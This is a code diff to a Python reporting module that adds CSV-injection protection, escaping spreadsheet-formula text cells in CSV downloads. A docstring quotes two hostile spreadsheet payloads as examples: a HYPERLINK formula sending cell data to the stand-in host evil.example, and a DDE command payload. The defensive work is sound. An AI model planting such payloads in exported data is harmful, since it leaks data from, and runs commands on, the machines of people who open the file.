@@ -465,20 +465,60 @@ def column_order(columns: Iterable[Any], key: Iterable[str] | None = None,
     return keys + acts + rest + detail
 
 
+#: What a spreadsheet reads as the start of a formula (OWASP "CSV Injection"): ``=``, ``+``, ``-``, ``@``, tab, CR
+CSV_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+#: A text cell that is only a number (``-12.5``, ``+3``, ``-1e-3``): opens as that number, no formula can be in it
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
+
+
+def csv_safe_text(value: Any) -> Any:
+    """A text cell as a spreadsheet must show it: prefixed with ``'`` when it starts like a formula.
+
+    Why: a CSV download opened in Excel/LibreOffice/Sheets evaluates a cell starting with ``=``, ``+``, ``-``,
+    ``@``, tab or CR -- the tag audit's CSV held ``=HYPERLINK("http://evil.example/?leak="&A2,"Click")`` and
+    ``@SUM(1+1)*cmd|' /C calc'!A0`` from tag values. OWASP's guidance: prefix such a cell with a single quote, which
+    the spreadsheet shows as text. Numbers are not text: a number (and a text cell that is only a number, ``-12.5``)
+    is left as it is, so a column of negative costs still opens as numbers.
+    """
+    if isinstance(value, str) and value.startswith(CSV_FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value):
+        return "'" + value
+    return value
+
+
+def csv_safe(df: Any) -> Any:
+    """``df`` with every text cell and column name made safe to open in a spreadsheet (:func:`csv_safe_text`);
+    numeric, date and boolean columns are untouched."""
+    import pandas as pd
+
+    out = df.set_axis([csv_safe_text(str(c)) for c in df.columns], axis=1)  # a new frame: df is not changed
+    for i in range(out.shape[1]):
+        col = out.iloc[:, i]
+        if pd.api.types.is_numeric_dtype(col.dtype) or pd.api.types.is_datetime64_any_dtype(col.dtype) or \
+                pd.api.types.is_bool_dtype(col.dtype):
+            continue
+        if not col.map(lambda v: isinstance(v, str) and v.startswith(CSV_FORMULA_START)).any():
+            continue
+        out.isetitem(i, col.astype(object).map(csv_safe_text))
+    return out
+
+
 def csv_link(df: Any, filename: str, text: str | None = None, max_rows: int = CSV_MAX_ROWS) -> str:
     """An ``<a download>`` link holding the CSV itself (a ``data:`` URI), so it works in the offline page.
 
-    The CSV is redacted like a report page (:func:`finops_kit.report.redact`): the user-info of every URL, and the
-    secret values of the kernel's environment. A report kernel runs with its secrets scrubbed, so there only the
-    URL user-info is masked here; the runner, which knows the scrubbed values, redacts the decoded links of the
-    page and of the executed notebook afterwards (:func:`finops_kit.report.redact_data_links`).
+    Text cells that a spreadsheet would run as a formula are prefixed with ``'`` (:func:`csv_safe`). The CSV is
+    redacted like a report page (:func:`finops_kit.report.redact`): the user-info of every URL, credential-shaped
+    values, and the secret values of the kernel's environment. A report kernel runs with its secrets scrubbed, so
+    there only the first two are masked here; the runner, which knows the scrubbed values, redacts the decoded links
+    of the page and of the executed notebook afterwards (:func:`finops_kit.report.redact_data_links`).
     """
     import base64
 
     from .report import redact, secret_values
 
-    full = df.head(max_rows)
-    csv = redact(full.to_csv(index=False), secret_values())
+    full = csv_safe(df.head(max_rows))
+    # CRLF rows (RFC 4180): the csv writer then quotes every cell holding a CR or LF; with "\n" rows a bare CR
+    # stayed unquoted, and a spreadsheet that ends a row there read the rest of the cell as a new row's formula
+    csv = redact(full.to_csv(index=False, lineterminator="\r\n"), secret_values())
     data = base64.b64encode(csv.encode("utf-8")).decode("ascii")
     cut = f" (first {max_rows:,} of {len(df):,} rows)" if len(df) > max_rows else f" ({len(df):,} rows)"
     return (f'<a class="finops-csv" download="{html.escape(filename, quote=True)}" '
